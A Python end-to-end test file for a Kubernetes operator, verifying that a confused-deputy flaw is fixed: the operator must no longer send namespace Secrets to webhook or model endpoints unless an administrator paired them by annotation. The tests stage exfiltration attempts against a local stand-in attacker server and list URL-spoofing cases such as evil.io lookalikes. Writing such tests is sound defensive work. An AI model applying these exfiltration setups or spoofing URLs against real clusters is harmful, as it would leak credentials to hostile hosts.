"""H3 of the security review (confused deputy), the Promotion webhook path: a developer
without any RBAC on Secrets wrote a Promotion whose webhook gate or failure
notification named a Secret of the namespace (e.g. the production gateway's API keys)
and a URL of their own; the operator read the Secret with its own rights and POSTed
it there as a bearer token.

Now a Secret goes to a webhook only when an administrator paired them with the
Secret's annotation kaizen.studio/allowed-destinations. Real operator, real apiserver,
a real receiver standing for the attacker's host.
"""

from __future__ import annotations

import base64
import http.server
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar

import httpx
import pytest
from kubernetes import client

from kaizen_api.pairing import matches, pairing_refusal
from localcluster.versions import state_dir
from tests.e2e.test_operator_reconciles import apply_yaml, condition, get
from tests.e2e.test_promotions import promotion, stage, wait_phase  # noqa: F401 - fixture
from tests.support.kube import eventually, local_control_plane_only

KEYS = "sk-production-gateway-key-0123456789"


class _Attacker(http.server.BaseHTTPRequestHandler):
    seen: ClassVar[list[str]] = []

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("content-length") or 0))
        _Attacker.seen.append(f"{self.path} {self.headers.get('authorization')}")
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[str]:
    _Attacker.seen = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Attacker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def _secret(api_client: client.ApiClient, ns: str, name: str, **annotations: str) -> None:
    client.CoreV1Api(api_client).create_namespaced_secret(
        ns,
        client.V1Secret(
            metadata=client.V1ObjectMeta(name=name, annotations=annotations or None),
            string_data={"k1": KEYS},
        ),
    )


def test_a_promotion_webhook_cannot_carry_an_unpaired_secret_away(
    crds: Path,
    api_client: client.ApiClient,
    stage: str,  # noqa: F811 - the fixture of tests/e2e/test_promotions.py
    attacker: str,
) -> None:
    _secret(api_client, stage, "production-gateway-keys")
    ref = {"name": "production-gateway-keys", "key": "k1"}
    apply_yaml(
        crds,
        stage,
        [
            promotion(
                "exfiltrate",
                gates={"webhook": {"url": f"{attacker}/gate", "secretRef": ref}},
                notifications={"webhook": {"url": f"{attacker}/x", "secretRef": ref}},
            )
        ],
    )
    failed = wait_phase(api_client, stage, "exfiltrate", "Failed")
    ready = next(c for c in failed["status"]["conditions"] if c["type"] == "Ready")
    assert ready["reason"] == "WebhookGateFailed"
    assert failed["status"]["message"].startswith(
        "webhook secret not allowed: Secret 'production-gateway-keys' is not paired with "
        f"{attacker}/gate"
    )
    assert "kaizen.studio/allowed-destinations" in failed["status"]["message"]
    notification = eventually(
        lambda: get(api_client, stage, "promotions", "exfiltrate")["status"].get("notification"),
        what="the notification attempt",
    )
    assert notification["message"].startswith("webhook secret not allowed: ")
    assert _Attacker.seen == []  # nothing was sent, let alone the key
    assert KEYS not in str(get(api_client, stage, "promotions", "exfiltrate"))


def test_a_secret_paired_by_an_administrator_reaches_its_webhook(
    crds: Path,
    api_client: client.ApiClient,
    stage: str,  # noqa: F811 - the fixture of tests/e2e/test_promotions.py
    attacker: str,
) -> None:
    _secret(
        api_client, stage, "ci-token", **{"kaizen.studio/allowed-destinations": f"{attacker}/ci"}
    )
    ref = {"name": "ci-token", "key": "k1"}
    apply_yaml(
        crds,
        stage,
        [promotion("paired", gates={"webhook": {"url": f"{attacker}/ci/gate", "secretRef": ref}})],
    )
    wait_phase(api_client, stage, "paired", "Succeeded")
    assert _Attacker.seen == [f"/ci/gate Bearer {KEYS}"]


def _model_agent(name: str, endpoint: str, secret: str) -> dict[str, Any]:
    return {
        "apiVersion": "kaizen.studio/v1alpha1",
        "kind": "Agent",
        "metadata": {"name": name},
        "spec": {
            "systemPrompt": "Be brief.",
            "model": {
                "provider": "openai-compatible",
                "name": "gpt-4o-mini",
                "endpoint": endpoint,
                "credentialsSecretRef": {"name": secret, "key": "k1"},
            },
        },
    }


def test_a_gateway_does_not_send_an_unpaired_secret_to_an_agents_endpoint(
    crds: Path,
    api_client: client.ApiClient,
    operator: Any,
    namespace: str,
    attacker: str,
) -> None:
    """The agent is not served, its Secret is not mounted into the gateway pods, and
    the Gateway's SecretsPaired condition names the rule; a paired one is served."""
    _secret(api_client, namespace, "openai-credentials")
    _secret(
        api_client,
        namespace,
        "paired-llm",
        **{"kaizen.studio/allowed-destinations": f"{attacker}/v1"},
    )
    gateway = {
        "apiVersion": "kaizen.studio/v1alpha1",
        "kind": "Gateway",
        "metadata": {"name": "dev"},
        "spec": {"environment": "dev", "agents": {"names": ["steal", "fine"]}},
    }
    apply_yaml(
        crds,
        namespace,
        [
            _model_agent("steal", f"{attacker}/v1", "openai-credentials"),
            _model_agent("fine", f"{attacker}/v1", "paired-llm"),
            gateway,
        ],
    )

    def refused() -> dict[str, Any] | None:
        gw = get(api_client, namespace, "gateways", "dev")
        served = (gw.get("status") or {}).get("servedRevisions") or []
        paired = condition(gw, "SecretsPaired")
        return gw if paired and [s["agent"] for s in served] == ["fine"] else None

    gw = eventually(refused, what="the Gateway to refuse the unpaired agent")
    paired = condition(gw, "SecretsPaired") or {}
    assert paired["status"] == "False" and paired["reason"] == "SecretNotPaired"
    assert paired["message"].startswith(
        "agent steal: spec.model.endpoint: Secret 'openai-credentials' is not paired with "
        f"{attacker}/v1"
    )
    pod = client.AppsV1Api(api_client).read_namespaced_deployment("dev-gateway", namespace)
    mounted = {v.secret.secret_name for v in pod.spec.template.spec.volumes or [] if v.secret}
    assert "openai-credentials" not in mounted and "paired-llm" in mounted


@pytest.mark.parametrize(
    ("prefix", "url", "ok"),
    [
        ("https://hooks.example.com/kaizen", "https://hooks.example.com/kaizen/gate", True),
        ("https://hooks.example.com/kaizen", "https://hooks.example.com/kaizen", True),
        ("https://hooks.example.com/kaizen", "https://hooks.example.com/kaizenx", False),
        ("https://hooks.example.com", "http://hooks.example.com/", False),
        ("https://hooks.example.com", "https://hooks.example.com:8443/", False),
        ("https://hooks.example.com", "https://hooks.example.com:443/a", True),
        ("https://hooks.example.com", "https://hooks.example.com.evil.io/", False),
        ("https://hooks.example.com", "https://evil.io/?https://hooks.example.com", False),
        ("https://hooks.example.com", "https://user@evil.io/", False),
        ("https://exämple.com", "https://xn--exmple-cua.com/x", True),
    ],
)
def test_the_pairing_compares_scheme_host_port_and_path(prefix: str, url: str, ok: bool) -> None:
    assert matches(prefix, url) is ok
    refusal = pairing_refusal("s", {"kaizen.studio/allowed-destinations": f" , {prefix}"}, url)
    assert (refusal is None) is ok


@local_control_plane_only
def test_secrets_are_encrypted_at_rest_in_the_local_control_plane(
    api_client: client.ApiClient, namespace: str
) -> None:
    """hack/localcluster starts kube-apiserver with --encryption-provider-config: etcd
    holds the Secret sealed (secretbox), never the value."""
    _secret(api_client, namespace, "sealed")
    state = json.loads((state_dir() / "state.json").read_text())
    key = base64.b64encode(f"/registry/secrets/{namespace}/sealed".encode()).decode()
    answer = httpx.post(
        f"http://127.0.0.1:{state['ports']['etcd']}/v3/kv/range", json={"key": key}, timeout=10
    ).json()
    stored = base64.b64decode(answer["kvs"][0]["value"])
    assert stored.startswith(b"k8s:enc:secretbox:v1:local:")
    assert KEYS.encode() not in stored
